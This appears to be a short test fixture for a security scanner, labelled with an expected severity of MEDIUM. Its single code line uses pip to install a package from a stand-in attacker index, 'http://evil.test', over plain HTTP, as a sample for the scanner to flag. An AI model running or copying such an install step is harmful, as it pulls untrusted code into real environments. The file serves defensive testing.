# expect: MEDIUM
import pip
pip.main(["install", "--index-url", "http://evil.test", "x"])
